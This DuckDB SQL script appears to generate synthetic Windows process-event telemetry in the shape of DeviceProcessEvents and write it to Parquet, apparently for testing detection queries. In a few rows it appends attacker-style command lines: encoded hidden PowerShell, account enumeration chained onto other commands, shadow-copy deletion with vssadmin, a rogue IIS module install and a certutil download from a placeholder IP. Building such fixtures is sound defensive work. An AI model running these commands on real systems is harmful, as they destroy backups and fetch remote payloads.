-- Rows in the shape of DeviceProcessEvents. Everything follows from the row's number, so the same number of rows is the
-- same file every time. $rows and $path are put in by the script.
CREATE OR REPLACE MACRO pick(i, salt) AS hash(i * 1000003 + salt);

CREATE OR REPLACE TEMP TABLE programs AS
SELECT * FROM (VALUES
  (0, 'svchost.exe', 'C:\Windows\System32', '-k netsvcs -p -s '),
  (1, 'conhost.exe', 'C:\Windows\System32', '0xffffffff -ForceV1 '),
  (2, 'chrome.exe', 'C:\Program Files\Google\Chrome\Application', '--type=renderer --field-trial-handle='),
  (3, 'powershell.exe', 'C:\Windows\System32\WindowsPowerShell\v1.0', '-NoProfile -File C:\Scripts\job'),
  (4, 'cmd.exe', 'C:\Windows\System32', '/c dir C:\Users\Public\share'),
  (5, 'w3wp.exe', 'C:\Windows\System32\inetsrv', '-ap "DefaultAppPool" -v "v4.0" -a \\.\pipe\iisipm'),
  (6, 'rundll32.exe', 'C:\Windows\System32', 'C:\Windows\System32\shell32.dll,Control_RunDLL '),
  (7, 'MsMpEng.exe', 'C:\ProgramData\Microsoft\Windows Defender\Platform\4.18', '-scan '),
  (8, 'backgroundTaskHost.exe', 'C:\Windows\System32', '-ServerName:App.AppX'),
  (9, 'msedge.exe', 'C:\Program Files (x86)\Microsoft\Edge\Application', '--type=utility --utility-sub-type=network.mojom.NetworkService --lang='),
  (10, 'sqlservr.exe', 'C:\Program Files\Microsoft SQL Server\MSSQL15\MSSQL\Binn', '-sMSSQLSERVER -i '),
  (11, 'net.exe', 'C:\Windows\System32', 'use \\fileserver\share'),
  (12, 'appcmd.exe', 'C:\Windows\System32\inetsrv', 'list site /id:'),
  (13, 'certutil.exe', 'C:\Windows\System32', '-hashfile C:\Temp\file'),
  (14, 'pwsh.exe', 'C:\Program Files\PowerShell\7', '-Command Get-Item C:\Logs\'),
  (15, 'reg.exe', 'C:\Windows\System32', 'query HKLM\SOFTWARE\Contoso\Key')
) AS t(id, name, folder, arguments);

COPY (
  WITH numbered AS (
    SELECT i, pick(i, 1) AS r1, pick(i, 2) AS r2, pick(i, 3) AS r3, pick(i, 4) AS r4, pick(i, 5) AS r5
    FROM range($rows) AS t(i)
  )
  SELECT
    TIMESTAMP '2025-03-01 00:00:00' + to_microseconds((i * (30 * 86400000000 // $rows))::BIGINT) AS "Timestamp",
    sha1((r1 % 2000)::VARCHAR) AS DeviceId,
    'host-' || lpad((r1 % 2000)::VARCHAR, 4, '0') || '.corp.contoso.com' AS DeviceName,
    CASE WHEN r2 % 50 = 0 THEN 'OpenProcess' ELSE 'ProcessCreated' END AS ActionType,
    p.name AS FileName,
    p.folder || '\' || p.name AS FolderPath,
    sha256((r3 % 20000)::VARCHAR) AS SHA256,
    (r4 % 60000)::INTEGER AS ProcessId,
    '"' || p.folder || '\' || p.name || '" ' || p.arguments || (r5 % 1000000)::VARCHAR ||
      CASE r2 % 5000
        WHEN 1 THEN ' -ExecutionPolicy Bypass -EncodedCommand ' || base64(sha256(r5::VARCHAR)::BLOB) || ' -WindowStyle Hidden'
        WHEN 2 THEN ' & whoami /all & net user administrator'
        WHEN 3 THEN ' -enc ' || base64(sha256(r5::VARCHAR)::BLOB)
        WHEN 4 THEN ' & vssadmin delete shadows /all /quiet'
        WHEN 5 THEN ' install module /name:HttpLogger /image:C:\Temp\httplogger' || (r5 % 100)::VARCHAR || '.dll'
        WHEN 6 THEN ' -urlcache -split -f http://203.0.113.' || (r5 % 250)::VARCHAR || '/a.txt C:\Users\Public\a.txt'
        ELSE '' END AS ProcessCommandLine,
    CASE WHEN r4 % 3 = 0 THEN 'nt authority' ELSE 'contoso' END AS AccountDomain,
    CASE WHEN r4 % 3 = 0 THEN 'system' ELSE 'user' || (r4 % 500)::VARCHAR END AS AccountName,
    CASE r3 % 7 WHEN 0 THEN 'explorer.exe' WHEN 1 THEN 'services.exe' WHEN 2 THEN 'svchost.exe' WHEN 3 THEN 'cmd.exe'
      WHEN 4 THEN 'w3wp.exe' WHEN 5 THEN 'outlook.exe' ELSE 'wmiprvse.exe' END AS InitiatingProcessFileName,
    (r3 % 60000)::BIGINT AS InitiatingProcessId,
    i::BIGINT AS ReportId,
    '{"Process":{"Integrity":"' || CASE r5 % 4 WHEN 0 THEN 'System' WHEN 1 THEN 'High' WHEN 2 THEN 'Medium' ELSE 'Low' END ||
      '","Depth":' || (r4 % 8)::VARCHAR || ',"Signer":{"Name":"Publisher ' || (r3 % 40)::VARCHAR ||
      '","Valid":' || CASE WHEN r3 % 11 = 0 THEN 'false' ELSE 'true' END || '}},"Tags":["t' || (r1 % 9)::VARCHAR ||
      '","t' || (r2 % 9)::VARCHAR || '"]}' AS AdditionalFields
  FROM numbered JOIN programs p ON p.id = CASE WHEN r2 % 100 < 90 THEN r2 % 11 ELSE 11 + r2 % 5 END
  ORDER BY i
) TO '$path' (FORMAT PARQUET, COMPRESSION ZSTD);
